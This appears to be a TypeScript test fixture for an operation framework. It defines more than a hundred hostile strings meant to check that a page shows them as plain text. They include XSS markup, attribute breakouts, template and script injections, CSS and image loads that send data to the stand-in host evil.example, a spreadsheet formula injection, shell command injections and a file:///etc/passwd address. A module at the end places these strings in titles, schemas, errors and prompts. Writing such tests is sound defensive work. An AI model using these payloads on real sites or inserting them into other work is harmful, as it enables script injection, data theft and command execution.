/** What every text below tries to run. */
const RUN = "window.__pwned=1";
const AWAY = "http://evil.example/leak";

/** Markup that runs, loads or moves something wherever it is taken for markup. */
const MARKUP: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY} 1x">`,
  `<image href=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="${AWAY}.svg#x"></use></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<style>*{background:url(${AWAY})}</style>`,
  `</style><img src=x onerror=${RUN}>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button>Send</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">here</a>`,
  `<a href="${AWAY}" ping="${AWAY}">here</a>`,
  `<div style="position:fixed;inset:0;background:url(${AWAY})">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</pre></code><img src=x onerror=${RUN}>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<custom-element onclick=${RUN}></custom-element>`,
  `<dialog open>Give me your token</dialog>`,
];

/** Ways out of an attribute, and addresses that are none. */
const ATTRIBUTES: readonly string[] = [
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus=${RUN} "`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\` onerror=${RUN}`,
  `x" style="background:url(${AWAY})`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}//http://example.com`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
  `vbscript:${RUN}`,
  "file:///etc/passwd",
  "//evil.example/protocol-relative",
  "http://user:secret@evil.example/",
  "https://example.com\\@evil.example",
  "http://evil.example/\u202egnp.exe",
  `blob:${AWAY}`,
  `filesystem:${AWAY}`,
];

/** What templates, style sheets, JSON and scripts would act on. */
const SYNTAX: readonly string[] = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `{%raw%}${RUN}{%endraw%}`,
  `*/${RUN};/*`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `-->${RUN}<!--`,
  `}*{background:url(${AWAY})}`,
  `;background:url(${AWAY});`,
  `expression(${RUN})`,
  `url(${AWAY})`,
  `@import url(${AWAY});`,
  `[link](javascript:${RUN})`,
  `![image](${AWAY}.png)`,
  `<${AWAY}>`,
  "&lt;img src=x onerror=alert(1)&gt;",
  `&#60;img src=x onerror=${RUN}&#62;`,
  "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "=cmd|'/c calc'!A1",
  "$(touch /tmp/pwned)",
  "`touch /tmp/pwned`",
  "'; touch /tmp/pwned; '",
];

/** Names that objects have already, and letters that hide or turn around. */
const NAMES: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "valueOf",
  "then",
  "innerHTML",
  "dangerouslySetInnerHTML",
  "ref",
  "key",
  "onclick",
  "\u202egpj.exe",
  "\u2066\u2067hidden\u2069",
  "zero\u200bwidth",
  "bell\u0007 escape\u001b[31m",
  "null\u0000byte",
  "\ufeffbom",
  "\ud800 alone",
  `a${"\u0301".repeat(80)}`,
  `${"W".repeat(3_000)}!`,
];

/** Texts of somebody who means no good to a page: more than a hundred. */
export const PAGE_TEXTS: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...SYNTAX, ...NAMES];

/** Some that must be seen as they are, letter by letter. */
export const SEEN_TEXTS: readonly string[] = [
  MARKUP[0] ?? "",
  MARKUP[5] ?? "",
  MARKUP[38] ?? "",
  ATTRIBUTES[3] ?? "",
  SYNTAX[0] ?? "",
];

/** A module of operations whose every text is one of these: names of members, titles, choices, defaults, data, errors. */
export const HOSTILE_MODULE = `
import { readFileSync } from "node:fs";
import { CallError, defineOperation, toolError, Type } from "waybill";
const texts = JSON.parse(readFileSync(new URL("./texts.json", import.meta.url), "utf8"));
const all = texts.join(" ");
const common = { namespace: "own", version: "1.0.0", inputSchema: Type.Unknown(), outputSchema: Type.Unknown(), type: "query", description: all, title: all };
const members = Object.defineProperty(Object.fromEntries(texts.map((text) => [text, text])), "__proto__", {
  value: "a member like any other", enumerable: true, configurable: true, writable: true,
});
const field = (text) => ({ type: "string", title: text, description: text, default: text, enum: [text, "x"], examples: [text] });
const variant = (text) => ({ title: text, description: text, type: "object", properties: { [text]: { const: text, title: text } } });
export const titles = texts.map((text, at) => defineOperation({
  ...common, name: "t" + at, title: text, description: text, tags: [text.slice(0, 60) || "x"], handler: () => text,
}));
export const form = defineOperation({
  ...common, name: "form",
  inputSchema: {
    type: "object", title: all, description: all,
    properties: Object.fromEntries([
      ...texts.slice(0, 60).map((text) => [text, field(text)]),
      ["plain", { type: "string", title: texts[0], pattern: "^x$" }],
      ["choice", { title: texts[0], oneOf: texts.slice(0, 20).map(variant) }],
    ]),
  },
  handler: (input) => input,
});
export const says = defineOperation({ ...common, name: "says", handler: () => ({ texts, members, all }) });
export const rows = defineOperation({
  ...common, name: "rows", handler: () => texts.map((text, at) => ({ [texts[0]]: text, [texts[5]]: at, plain: text })),
});
export const series = defineOperation({
  ...common, name: "series", handler: () => texts.slice(0, 40).map((text, at) => ({ when: text, [texts[0]]: at })),
});
export const refuses = defineOperation({
  ...common, name: "refuses", handler: () => toolError({ texts }, { code: "NO", message: all, details: { members } }),
});
export const breaks = defineOperation({
  ...common, name: "breaks", handler: () => { throw new CallError("NOT_FOUND", all, { details: { texts, members } }); },
});
export const each = defineOperation({ ...common, name: "each", type: "subscription", async *handler() { yield* texts; } });
export const chats = defineOperation({
  ...common, name: "chats", type: "mutation",
  async handler(_, { elicit, log, progress }) {
    for (const text of texts) { log("info", text, { text }); progress({ progress: 1, total: 2, message: text }); }
    const properties = Object.fromEntries(texts.slice(0, 20).map((text) => [text, { type: "string", title: text, description: text }]));
    const form = await elicit({ message: all, requestedSchema: { type: "object", properties } });
    const address = await elicit({ mode: "url", message: all, url: "javascript:window.__pwned=1", elicitationId: "x" }).catch(String);
    return { form, address };
  },
});
`;
